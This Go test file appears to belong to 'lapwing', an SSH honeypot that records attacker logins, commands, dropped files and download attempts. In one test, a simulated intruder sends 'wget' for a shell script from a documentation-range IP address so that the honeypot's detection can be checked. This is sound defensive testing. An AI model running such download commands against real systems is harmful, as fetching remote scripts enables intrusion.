package main

import (
	"bufio"
	"bytes"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

// The test binary is the program when this variable is set; the program hands
// it on to its own processes.
const asProgram = "LAPWING_TESTSCRIPT"

func TestMain(m *testing.M) {
	if os.Getenv(asProgram) != "" {
		os.Exit(run())
	}
	os.Exit(m.Run())
}

func command(t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	c := exec.Command(os.Args[0], args...)
	c.Env = append(os.Environ(), asProgram+"=1")
	return c
}

// instance is a running lapwing with one decoy.
type instance struct {
	t    *testing.T
	dir  string
	addr string
	cmd  *exec.Cmd
	out  *bytes.Buffer

	program string // another path of the test binary
}

func freePort(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().String()
}

func newInstance(t *testing.T) *instance { t.Helper(); return newInstanceWith(t, nil) }

// newInstanceWith adds to the configuration what more makes of the instance's directory.
func newInstanceWith(t *testing.T, more func(dir string) string) *instance {
	t.Helper()
	// The path of a socket is short by law, that of a test's folder is not.
	dir, err := os.MkdirTemp("", "lw") //nolint:usetesting // see above
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	in := &instance{t: t, dir: dir, addr: freePort(t)}
	conf := fmt.Sprintf("hosts:\n  - name: files\n    persona: debian-server\n    login: {accept: [{user: root, password: admin}]}\n    decoys:\n      - {type: ssh, listen: %q}\nlimits: {connections: {per_source: 500, total: 500}}\n", in.addr)
	if more != nil {
		conf += more(dir)
	}
	if err := os.WriteFile(filepath.Join(dir, "c.yaml"), []byte(conf), 0o600); err != nil {
		t.Fatal(err)
	}
	in.start()
	t.Cleanup(in.stop)
	return in
}

func (in *instance) start() {
	in.t.Helper()
	in.cmd = command(in.t, "up", "--quiet", "--data", filepath.Join(in.dir, "d"), "--config", filepath.Join(in.dir, "c.yaml"))
	if in.program != "" {
		in.cmd.Path = in.program
	}
	in.cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	in.out = &bytes.Buffer{}
	in.cmd.Stderr = in.out
	stdout, err := in.cmd.StdoutPipe()
	if err != nil {
		in.t.Fatal(err)
	}
	if err := in.cmd.Start(); err != nil {
		in.t.Fatal(err)
	}
	ready := make(chan bool, 1)
	go func() {
		sc := bufio.NewScanner(stdout)
		for sc.Scan() {
			if sc.Text() == "ready" {
				ready <- true
			}
		}
		ready <- false
	}()
	select {
	case ok := <-ready:
		if !ok {
			in.cmd.Wait()
			in.t.Fatalf("it ended before it was ready: %s", in.out)
		}
	case <-time.After(30 * time.Second):
		in.t.Fatalf("not ready in time: %s", in.out)
	}
}

func (in *instance) stop() {
	if in.cmd.ProcessState == nil {
		in.cmd.Process.Signal(syscall.SIGTERM)
		in.cmd.Wait()
	}
}

// children are the processes that this instance started, by what they are.
func (in *instance) children() map[string]int {
	out := map[string]int{}
	files, _ := filepath.Glob("/proc/[0-9]*/stat")
	for _, f := range files {
		data, _ := os.ReadFile(f)
		var pid, ppid int
		if i := bytes.LastIndexByte(data, ')'); i > 0 {
			fmt.Sscan(string(data), &pid)
			var state string
			fmt.Sscan(string(data[i+1:]), &state, &ppid)
		}
		if ppid == in.cmd.Process.Pid {
			line, _ := os.ReadFile(filepath.Join(filepath.Dir(f), "cmdline"))
			if args := strings.Split(string(line), "\x00"); len(args) > 1 {
				out[args[1]] = pid
			}
		}
	}
	return out
}

// kill ends processes at once: all of them (the worker first, so that nobody
// is answered whose acts cannot be recorded any more), or one child.
func (in *instance) kill(which string) {
	in.t.Helper()
	kids := in.children()
	if which != "whole" {
		if kids[which] == 0 {
			in.t.Fatalf("no %s among %v", which, kids)
		}
		syscall.Kill(kids[which], syscall.SIGKILL)
		return
	}
	syscall.Kill(kids["worker"], syscall.SIGKILL)
	in.cmd.Process.Kill()
	for _, pid := range kids {
		syscall.Kill(pid, syscall.SIGKILL)
	}
	in.cmd.Wait()
}

func (in *instance) exec(line string) (string, error) {
	c, err := ssh.Dial("tcp", in.addr, &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.Password("admin")}, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second})
	if err != nil {
		return "", err
	}
	defer c.Close()
	s, err := c.NewSession()
	if err != nil {
		return "", err
	}
	out, err := s.CombinedOutput(line)
	return string(out), err
}

// lapwing runs a command on the data directory.
func (in *instance) lapwing(args ...string) string {
	in.t.Helper()
	var errOut bytes.Buffer
	c := command(in.t, append([]string{"--data", filepath.Join(in.dir, "d")}, args...)...)
	c.Stderr = &errOut
	out, err := c.Output()
	if err != nil {
		in.t.Fatalf("lapwing %v: %v\n%s\nthe instance says: %s", args, err, errOut.String(), in.out)
	}
	return string(out)
}

func TestFirstLoop(t *testing.T) {
	in := newInstance(t)
	out, err := in.exec("echo marker-$((40+2)); echo left behind > /tmp/x; wget -q http://198.51.100.9/a.sh")
	if err != nil || out != "marker-42\n" {
		t.Fatalf("got %q, %v", out, err)
	}
	check := func(when string) {
		t.Helper()
		for _, want := range []string{`"event.action":"login"`, `"event.outcome":"success"`, `"lapwing.password.hmac":"`, `"event.action":"command-executed"`, `"event.action":"file-captured"`, `"url.original":"http://198.51.100.9/a.sh"`, `"lapwing.ssh.hassh":"`, `"logtype":4002`} {
			if ev := in.lapwing("events", "--json"); !strings.Contains(ev, want) {
				t.Errorf("%s: %s is not among the events", when, want)
			}
		}
		for _, want := range []string{"Login on a decoy", "Commands on a decoy", "File left on a decoy", "Download requested"} {
			if a := in.lapwing("alerts"); !strings.Contains(a, want) {
				t.Errorf("%s: no alert %q in\n%s", when, want, a)
			}
		}
	}
	check("running")
	first := in.lapwing("alerts", "--json")
	in.stop()
	check("stopped")
	if again := in.lapwing("alerts", "--json"); again != first {
		t.Errorf("the alerts differ after the stop:\n%s\n%s", first, again)
	}
	filepath.Walk(filepath.Join(in.dir, "d"), func(p string, st os.FileInfo, err error) error {
		if err == nil && st.Mode().IsRegular() && !strings.Contains(p, "/persona/") {
			if data, _ := os.ReadFile(p); bytes.Contains(data, []byte("admin")) && !strings.Contains(p, "keys") {
				t.Errorf("the typed password lies in %s", p)
			}
			if data, _ := os.ReadFile(p); strings.Contains(p, "captures") && bytes.Contains(data, []byte("left behind")) {
				t.Errorf("the captured file lies open in %s", p)
			}
		}
		return nil
	})
	sum := ""
	for l := range strings.Lines(in.lapwing("captures")) {
		if strings.Contains(l, "/tmp/x") {
			sum, _, _ = strings.Cut(l, " ")
		}
	}
	if got := in.lapwing("captures", "get", "--raw", sum); got != "left behind\n" {
		t.Errorf("the captured file comes back as %q", got)
	}
	if out, status := in.try("captures", "get", strings.Repeat("0", 64)); status != 2 || !strings.Contains(out, "lapwing captures lists") {
		t.Errorf("an unknown file: status %d, %q", status, out)
	}
	if got := in.lapwing("captures", "get", sum[:12], "--raw"); got != "left behind\n" {
		t.Errorf("the beginning of a SHA-256 gives %q", got)
	}
	if got := in.lapwing("captures", "get", sum); !strings.HasPrefix(got, "PK\x03\x04") || strings.Contains(got, "left behind") {
		t.Errorf("the archive is not one, or not encrypted: %q", got)
	}
}

func TestStatuses(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.yaml")
	os.WriteFile(bad, []byte("hosts:\n  - nam: x\n"), 0o600)
	for _, tt := range []struct {
		args   string
		status int
		want   string
	}{
		{"version", 0, "lapwing "},
		{"nonsense", 64, "unknown command"},
		{"events --nonsense", 64, "unknown flag"},
		{"check " + bad, 2, `bad.yaml:2: unknown key "nam"`},
		{"check /nonexistent", 2, "no such file"},
		{"alerts --data " + dir, 2, "holds nothing yet"},
		{"events usr.name:root --data " + dir, 2, "did you mean user.name?"},
		{"events (a --data " + dir, 2, "the parenthesis is not closed, at character 1"},
		{"events -n -1 --data " + dir, 64, "must not be negative"},
		{"events a --follow --data " + dir, 2, "holds nothing yet"},
		{"session", 64, "show, replay or cast"},
		{"captures get abc --data " + dir, 2, "holds nothing yet"},
		{"up --expose nonsense --data " + dir, 2, "write an address"},
	} {
		out, _ := command(t, strings.Fields(tt.args)...).CombinedOutput()
		c := command(t, strings.Fields(tt.args)...)
		c.Run()
		if got := c.ProcessState.ExitCode(); got != tt.status || !strings.Contains(string(out), tt.want) {
			t.Errorf("lapwing %s: status %d, want %d, saying %q\n%s", tt.args, got, tt.status, tt.want, out)
		}
	}
}

func TestLockedDirectory(t *testing.T) {
	in := newInstance(t)
	out, _ := command(t, "up", "--data", filepath.Join(in.dir, "d")).CombinedOutput()
	if !strings.Contains(string(out), "is in use by lapwing with process id") {
		t.Errorf("got %s", out)
	}
}
